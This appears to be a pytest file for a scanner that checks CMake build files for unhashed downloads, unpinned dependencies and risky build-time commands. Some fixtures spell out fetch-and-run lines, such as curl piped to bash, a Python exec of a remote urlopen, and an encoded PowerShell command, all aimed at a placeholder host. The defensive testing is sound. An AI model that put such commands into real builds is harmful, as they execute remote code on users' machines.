"""CMake: the tolerant tokenizer, and downloads, fetched dependencies and commands run at build time."""

from __future__ import annotations

import textwrap

from mlvet.findings import Report, Severity
from mlvet.scan import scan_bytes
from mlvet.scan.build_systems.cmake_syntax import Argument, parse_commands

HOST = "https://example.invalid"
HASH = "SHA256=" + "0" * 64


def _scan(text: str, name: str = "CMakeLists.txt") -> Report:
    return scan_bytes(textwrap.dedent(text).lstrip("\n").encode(), name)


def _found(report: Report) -> list[tuple[str, Severity, int | None]]:
    return sorted((f.rule.id, f.severity, f.location.line) for f in report.findings)


# ---------------------------------------------------------------- tokenizer


def test_tokenizer_reads_every_argument_kind_with_lines() -> None:
    text = (
        "project(demo)  # a comment with file(DOWNLOAD x)\n"
        "#[==[ a bracket comment\nexecute_process(COMMAND curl) ]==]\n"
        'Set(MSG "say \\"hi\\";\\n" [=[raw ]] text]=] a;b (nested x) )\n'
    )
    commands = parse_commands(text)
    assert [(c.name, c.spelled, c.line) for c in commands] == [("project", "project", 1), ("set", "Set", 4)]
    assert commands[1].arguments == (
        Argument("MSG", False, 4),
        Argument('say "hi";\n', True, 4),
        Argument("raw ]] text", True, 4),
        Argument("a;b", False, 4),
        Argument("(", False, 4),
        Argument("nested", False, 4),
        Argument("x", False, 4),
        Argument(")", False, 4),
    )
    assert commands[1].words()[2:5] == ["raw ]] text", "a", "b"]


def test_tokenizer_counts_lines_inside_multiline_arguments() -> None:
    commands = parse_commands('a(\n  "one\ntwo"\n  [[three\nfour]]\n  five)\nb()\n')
    assert [(arg.text, arg.line) for arg in commands[0].arguments] == [
        ("one\ntwo", 2),
        ("three\nfour", 4),
        ("five", 6),
    ]
    assert commands[1].line == 7


def test_tokenizer_survives_unterminated_constructs() -> None:
    assert [c.name for c in parse_commands('a("open\nb(')] == ["a"]
    assert [c.name for c in parse_commands("x([=[ never closed")] == ["x"]
    assert parse_commands("#[[ unterminated comment\nfile(DOWNLOAD x)") == []
    assert parse_commands(') ( \\ ] [ "') == []


# ---------------------------------------------------------------- rules


def test_download_without_hash_is_medium_high_for_scripts_and_plain_http() -> None:
    report = _scan(
        f"""
        set(BASE {HOST}/files CACHE STRING "where from")
        file(DOWNLOAD ${{BASE}}/a.tgz a.tgz)
        file(DOWNLOAD ${{BASE}}/b.tgz b.tgz EXPECTED_HASH {HASH})
        file(DOWNLOAD ${{BASE}}/c.tgz c.tgz EXPECTED_MD5 0123)
        file(DOWNLOAD ${{BASE}}/tool.sh "${{CMAKE_BINARY_DIR}}/tool.sh")
        file(DOWNLOAD http://example.invalid/d.tgz d.tgz)
        file(DOWNLOAD ${{url}} ${{tmp}})
        file(READ x y)
        """
    )
    assert _found(report) == [
        ("MLV841", Severity.MEDIUM, 2),
        ("MLV841", Severity.MEDIUM, 7),
        ("MLV841", Severity.HIGH, 5),
        ("MLV841", Severity.HIGH, 6),
    ]
    first = min(report.findings, key=lambda f: f.location.line or 0)
    assert first.evidence == {"url": f"{HOST}/files/a.tgz", "destination": "a.tgz"}


def test_downloaded_file_that_is_included_or_run_is_critical() -> None:
    report = _scan(
        f"""
        file(DOWNLOAD {HOST}/helpers.cmake ${{CMAKE_BINARY_DIR}}/helpers.cmake)
        include(${{CMAKE_BINARY_DIR}}/helpers.cmake)
        file(DOWNLOAD {HOST}/tool.py ${{CMAKE_BINARY_DIR}}/tool.py)
        add_custom_command(OUTPUT gen.c COMMAND python3 ${{CMAKE_BINARY_DIR}}/tool.py VERBATIM)
        """
    )
    assert _found(report) == [
        ("MLV821", Severity.CRITICAL, 2),
        ("MLV821", Severity.CRITICAL, 4),
        ("MLV841", Severity.HIGH, 1),
        ("MLV841", Severity.HIGH, 3),
    ]


def test_fetched_dependencies_need_a_hash_or_a_commit() -> None:
    report = _scan(
        f"""
        FetchContent_Declare(a URL {HOST}/a.tar.gz)
        FetchContent_Declare(b URL {HOST}/b.tar.gz URL_HASH {HASH})
        ExternalProject_Add(c URL ${{CMAKE_CURRENT_SOURCE_DIR}}/third_party/c.tar.gz)
        FetchContent_Declare(d GIT_REPOSITORY {HOST}/d.git GIT_TAG {"ab" * 20})
        FetchContent_Declare(e GIT_REPOSITORY {HOST}/e.git GIT_TAG v1.2.3)
        FetchContent_Declare(f GIT_REPOSITORY {HOST}/f.git GIT_TAG main)
        ExternalProject_Add(g GIT_REPOSITORY {HOST}/g.git)
        """
    )
    assert _found(report) == [
        ("MLV842", Severity.HIGH, 1),
        ("MLV843", Severity.LOW, 5),
        ("MLV843", Severity.MEDIUM, 6),
        ("MLV843", Severity.MEDIUM, 7),
    ]


def test_commands_are_graded_by_program() -> None:
    report = _scan(
        f"""
        execute_process(COMMAND curl -fsSL {HOST}/i.sh COMMAND bash)
        execute_process(COMMAND wget -q {HOST}/x OUTPUT_QUIET)
        add_custom_target(fetch ALL COMMAND powershell -EncodedCommand SQBFAFgA)
        add_custom_command(OUTPUT x COMMAND sh -e ${{CMAKE_SOURCE_DIR}}/gen.sh)
        execute_process(COMMAND ${{Python3_EXECUTABLE}} -c "import numpy; print(numpy.get_include())")
        execute_process(COMMAND python3 -c "import urllib.request as u; exec(u.urlopen('{HOST}').read())")
        execute_process(COMMAND ${{CMAKE_COMMAND}} -E copy a b)
        ExternalProject_Add(h URL {HOST}/h.zip URL_HASH {HASH} BUILD_COMMAND bash -c "make all")
        """,
        name="cmake/Deps.cmake",
    )
    assert _found(report) == [
        ("MLV821", Severity.CRITICAL, 1),
        ("MLV821", Severity.CRITICAL, 6),
        ("MLV844", Severity.LOW, 4),
        ("MLV844", Severity.MEDIUM, 8),
        ("MLV844", Severity.HIGH, 2),
        ("MLV844", Severity.HIGH, 3),
    ]


def test_commented_out_commands_are_ignored() -> None:
    report = _scan(
        f"""
        # file(DOWNLOAD {HOST}/a a)
        #[[
        execute_process(COMMAND curl {HOST} COMMAND sh)
        ]]
        message(STATUS "file(DOWNLOAD {HOST}/b b)")
        """
    )
    assert report.findings == ()
